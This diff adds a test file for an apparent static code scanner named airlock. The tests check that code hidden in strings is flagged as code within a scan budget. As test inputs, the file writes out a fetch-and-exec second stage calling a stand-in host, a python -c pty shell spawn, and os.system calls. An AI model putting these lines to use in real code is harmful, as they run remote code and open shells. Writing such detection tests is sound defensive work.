@@ -1,0 +1,42 @@
+"""Code held in strings is analysed as code, within a bound per scan."""
+
+from __future__ import annotations
+
+from airlock.analyzer.embedded import MAX_TOTAL
+from airlock.analyzer.models import Verdict
+from airlock.analyzer.scan import scan
+
+STAGE = "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/p').read())\n"
+
+
+def rules(report) -> set[str]:  # type: ignore[no-untyped-def]
+    return {f.rule_id for f in report.active_findings}
+
+
+def test_a_second_stage_written_to_a_file_is_judged_as_code() -> None:
+    source = f"import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write({STAGE!r})\n"
+    report = scan(source)
+    assert report.verdict == Verdict.block and "AIR-EXEC-003" in rules(report)
+    finding = next(f for f in report.active_findings if f.rule_id == "AIR-EXEC-003")
+    assert finding.line == 3 and finding.message.startswith("code held in a string")
+    # control: the same text as a docstring is nothing anyone runs
+    assert "AIR-EXEC-003" not in rules(scan(f'"""{STAGE}"""\n'))
+
+
+def test_python_dash_c_in_a_shell_line_is_judged_as_code() -> None:
+    inner = "import pty; pty.spawn('/bin/sh')"
+    report = scan(f"import os\nos.system({('python3 -c ' + chr(34) + inner + chr(34))!r})\n")
+    assert (
+        "AIR-PROC-014" in rules(report)
+        or "AIR-PRIV-001" in rules(report)
+        or any(f.message.startswith("code held in a string") for f in report.active_findings)
+    ), rules(report)
+
+
+def test_embedded_analysis_stops_at_its_budget() -> None:
+    pad = "# " + "x" * 60 + "\n"
+    body = "import os\nos.system('id')\n" + pad * ((MAX_TOTAL * 2 // 5) // len(pad))
+    first, second, third = (f"s{i} = {body + f'# {i}'!r}\n" for i in range(3))
+    report = scan(first + second + third + "open('a.py', 'w').write(s0 + s1 + s2)\n")
+    lines = {f.line for f in report.active_findings if f.rule_id == "AIR-PROC-001"}
+    assert lines == {1, 2}, lines  # two strings of 40 % fit the budget; the third does not
